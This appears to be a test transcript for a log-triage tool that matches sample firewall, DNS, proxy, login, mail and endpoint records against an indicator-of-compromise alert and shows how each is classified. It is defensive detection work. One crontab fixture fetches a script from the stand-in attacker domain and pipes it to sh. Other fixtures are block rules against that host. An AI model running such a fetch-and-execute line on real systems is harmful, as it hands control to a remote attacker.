# What is understood of the records that people hand in: who, whom, which way, with what outcome.

$ cat >alert.md <<'END'
> # Lantern Moth against laboratories
>
> Published: 3 July 2020. Seen since 1 July 2020.
>
> ## Indicators of compromise
>
> - 103[.]216[.]221[.]19
> - lantern-moth-update[.]site
> - hxxp://lantern-moth-update[.]site/gate.php
> - 0c5ad1e8fe43583e279201cdb1046aea742bae59685e6da24e963a41df987494
> END

$ cat >look <<'END'
> #!/bin/sh
> # look: what is told of the records on standard input
> cat >"$1"; tocsin sweep -q -a alert.md --year 2020 --home-net 10.0.0.0/8 --home-net 192.0.2.0/24 --format json "$1" | records +finding class event direction host user peer outcome
> END

$ chmod +x look

# Firewalls: netfilter, Cisco ASA, FortiGate, Palo Alto, pf, a table without a name.
$ echo 'Jul  2 21:10:00 gw kernel: [UFW BLOCK] IN=eth0 OUT= SRC=103.216.221.19 DST=192.0.2.10 LEN=60 PROTO=TCP SPT=40004 DPT=22' | ./look ufw.log
finding class=attempt event=flow direction=inbound host=192.0.2.10 peer=103.216.221.19 outcome=refused

$ echo 'Jul  2 2020 21:10:00 asa1 : %ASA-6-302013: Built outbound TCP connection 1234 for outside:103.216.221.19/443 (103.216.221.19/443) to inside:10.20.3.41/50123 (192.0.2.1/50123)' | ./look asa.log
finding class=compromise event=flow direction=outbound host=10.20.3.41 peer=103.216.221.19:443 outcome=let-through

$ echo 'date=2020-07-02 time=21:10:00 devname="fgt1" type="traffic" subtype="forward" srcip=10.20.3.41 srcport=50123 dstip=103.216.221.19 dstport=443 action="close" sentbyte=3100 rcvdbyte=880 tz="+0000"' | ./look forti.log
finding class=compromise event=flow direction=outbound host=10.20.3.41 peer=103.216.221.19:443 outcome=data

$ printf 'time,src,dst,dport,action,bytes_out,bytes_in\n2020-07-02T21:10:00Z,10.20.3.41,103.216.221.19,443,allow,3100,880\n' | ./look table.csv
finding class=compromise event=flow direction=outbound host=10.20.3.41 peer=103.216.221.19:443 outcome=data

# Name servers: a question is the sign, whatever the answer was.
$ echo 'Jul  2 21:10:00 ns dnsmasq[311]: query[A] www.lantern-moth-update.site from 10.20.3.41' | ./look dnsmasq.log
finding class=compromise event=dns direction=outbound host=10.20.3.41 peer=lantern-moth-update.site outcome=unknown

$ echo '02-Jul-2020 21:10:00.123 queries: info: client @0x7f1 10.20.3.41#4123 (lantern-moth-update.site): query: lantern-moth-update.site IN A + (10.0.0.53)' | ./look named.log
finding class=compromise event=dns direction=outbound host=10.20.3.41 peer=lantern-moth-update.site outcome=unknown

$ echo '[1593724200] unbound[99:0] info: 10.20.3.41 lantern-moth-update.site. A IN' | ./look unbound.log
finding class=compromise event=dns direction=outbound host=10.20.3.41 peer=lantern-moth-update.site outcome=unknown

# Proxies and web servers: the host of the URL is contact, the rest of it is not.
$ echo '1593724200.123     87 10.20.3.41 TCP_MISS/200 1834 GET http://lantern-moth-update.site/gate.php - HIER_DIRECT/103.216.221.19 text/html' | ./look squid.log
finding class=compromise event=proxy direction=outbound host=10.20.3.41 peer=[http://lantern-moth-update.site/gate.php]:80 outcome=data
finding class=compromise event=proxy direction=outbound host=10.20.3.41 peer=103.216.221.19:80 outcome=data

$ echo '1593724200.123     87 10.20.3.41 TCP_DENIED/403 1834 CONNECT lantern-moth-update.site:443 - HIER_NONE/- text/html' | ./look squid2.log
finding class=compromise event=proxy direction=outbound host=10.20.3.41 peer=lantern-moth-update.site:443 outcome=refused

$ echo '1593724200.123     87 10.20.3.41 TCP_MISS/200 1834 GET http://search.example.org/?q=lantern-moth-update.site - HIER_DIRECT/198.51.100.7 text/html' | ./look squid3.log
finding class=mention event=proxy direction=none outcome=data

$ echo '103.216.221.19 - - [02/Jul/2020:21:10:00 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "curl/7.1"' | ./look access.log
finding class=attempt event=server direction=inbound peer=103.216.221.19 outcome=answered

$ echo '198.51.100.7 - - [02/Jul/2020:21:10:00 +0000] "GET / HTTP/1.1" 200 153 "http://lantern-moth-update.site/" "Mozilla/5.0"' | ./look referrer.log
finding class=mention event=server direction=none outcome=data

# Log-ins: failed ones are attempts, a successful one is the worst.
$ echo 'Jul  2 21:10:00 vpn1 sshd[311]: Failed password for bea from 103.216.221.19 port 50123 ssh2' | ./look sshd.log
finding class=attempt event=login direction=inbound user=bea peer=103.216.221.19 outcome=login-failed

$ echo 'Jul  2 21:10:00 vpn1 sshd[311]: Accepted password for bea from 103.216.221.19 port 50123 ssh2' | ./look sshd2.log
finding class=compromise event=login direction=inbound user=bea peer=103.216.221.19 outcome=login-ok

# Mail in a gateway's log.
$ echo 'Jul  2 21:10:00 mx postfix/smtpd[311]: connect from unknown[103.216.221.19]' | ./look mail.log
finding class=attempt event=mail direction=inbound peer=103.216.221.19 outcome=unknown

$ echo 'Jul  2 21:10:00 mx amavis[311]: (311-01) Passed CLEAN {RelayedInbound}, [103.216.221.19]:4123 [103.216.221.19] <billing@lantern-moth-update.site> -> <bea@lab.example>, Queue-ID: 4A1, size: 900' | ./look mailscan.log
finding class=attempt event=mail direction=inbound peer=103.216.221.19 outcome=delivered
finding class=attempt event=mail direction=inbound peer=lantern-moth-update.site outcome=delivered

# Events as JSON: Suricata, Zeek, Windows.
$ echo '{"timestamp":"2020-07-02T21:10:00.000000+0000","event_type":"tls","src_ip":"10.20.3.41","src_port":50123,"dest_ip":"103.216.221.19","dest_port":443,"proto":"TCP","tls":{"sni":"lantern-moth-update.site"}}' | ./look eve.json
finding class=compromise event=tls direction=outbound host=10.20.3.41 peer=103.216.221.19:443 outcome=unknown
finding class=compromise event=tls direction=outbound host=10.20.3.41 peer=lantern-moth-update.site:443 outcome=unknown

$ echo '{"ts":1593724200.0,"uid":"C1","id.orig_h":"10.20.3.41","id.orig_p":50123,"id.resp_h":"103.216.221.19","id.resp_p":443,"proto":"tcp","conn_state":"SF","orig_bytes":3100,"resp_bytes":880}' | ./look conn.json
finding class=compromise event=flow direction=outbound host=10.20.3.41 peer=103.216.221.19:443 outcome=data

$ echo '{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Sysmon"},"EventID":1,"Computer":"ws07.lab.example","TimeCreated":{"@SystemTime":"2020-07-02T21:10:00Z"}},"EventData":{"Image":"C:\\Users\\bea\\agentd.exe","Hashes":"SHA256=0C5AD1E8FE43583E279201CDB1046AEA742BAE59685E6DA24E963A41DF987494","User":"LAB\\bea"}}}' | ./look sysmon.json
finding class=unjudged direction=none outcome=unknown

# What runs and what denies: the same string means opposite things.
$ printf '# m h dom mon dow command\n*/5 * * * * curl -s http://lantern-moth-update.site/gate.php | sh\n' | ./look crontab
finding class=compromise direction=none outcome=unknown

$ printf '#!/bin/sh\niptables -A OUTPUT -d 103.216.221.19 -j DROP\n' | ./look block.sh
finding class=mention direction=none outcome=unknown

$ printf '127.0.0.1 localhost\n0.0.0.0 lantern-moth-update.site\n' | ./look hosts
finding class=mention direction=none outcome=unknown

$ printf '$TTL 60\n@ SOA localhost. root.localhost. 1 1h 15m 30d 2h\nlantern-moth-update.site CNAME .\n' | ./look rpz.zone
finding class=mention direction=none outcome=unknown

# Prose, a ticket: a mention; text that nobody can judge: a person must.
$ printf 'Ticket 4711\n\nPlease look for 103[.]216[.]221[.]19 on the firewall, see the alert.\n' | ./look ticket.txt
finding class=mention direction=none outcome=unknown

$ echo 'xyzzy 103.216.221.19 plugh' | ./look odd.txt
finding class=unjudged direction=none outcome=unknown

# A lease names the machine behind an address.
$ printf 'lease 10.20.3.41 {\n  starts 4 2020/07/02 20:00:00;\n  ends 5 2020/07/03 08:00:00;\n  binding state active;\n  hardware ethernet 52:54:00:12:34:56;\n  client-hostname "lab-ws07";\n}\n' >dhcpd.leases; echo 'Jul  2 21:10:00 gw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.41 DST=103.216.221.19 LEN=60 PROTO=TCP SPT=40004 DPT=25' >fw.log; tocsin sweep -q -a alert.md --year 2020 fw.log dhcpd.leases | sed -n '/^ACT/,/^NOT/p'
ACT NOW
 1 lab-ws07 (10.20.3.41)                                                weak  F1
   1 connection to 103[.]216[.]221[.]19 port 25, 2 Jul 21:10 (no zone stated:
   taken as UTC); let through.
NOT VISIBLE

# A whole answer of a service in one line, its records in an array: what AWS and mail gateways hand out.
$ echo '{"Records":[{"eventTime":"2020-07-02T21:10:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"103.216.221.19","userIdentity":{"userName":"bea"}},{"eventTime":"2020-07-02T21:11:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"198.51.100.9","userIdentity":{"userName":"kim"}}]}' | ./look trail.json
finding class=compromise event=login direction=inbound user=bea peer=103.216.221.19 outcome=login-ok

# A JSON document that is no record of a log is no script, over one line or many.
$ echo '{ "ids": [], "notes": [ "103.216.221.19" ], "other": { "site": "http://lantern-moth-update.site/gate.php" } }' | ./look one.json
finding class=unjudged direction=none outcome=unknown
finding class=unjudged direction=none outcome=unknown

$ printf '{\n "ids": [],\n "notes": [\n  "103.216.221.19"\n ],\n "parts": [\n  {\n   "ip": "103.216.221.19"\n  }\n ]\n}\n' | ./look many.json
finding class=unjudged direction=none outcome=unknown

# The digest of an attachment in a gateway's log is no program that ran here.
$ echo '{"messageTime":"2020-07-02T21:10:00Z","messageID":"<1@x.example>","sender":"a@x.example","recipient":["bea@lab.example"],"messageParts":[{"filename":"x.zip","sha256":"0c5ad1e8fe43583e279201cdb1046aea742bae59685e6da24e963a41df987494"}],"quarantineFolder":"Malware"}' | ./look gateway.json
finding class=attempt event=mail direction=inbound peer=0c5ad1e8fe43583e279201cdb1046aea742bae59685e6da24e963a41df987494 outcome=quarantined
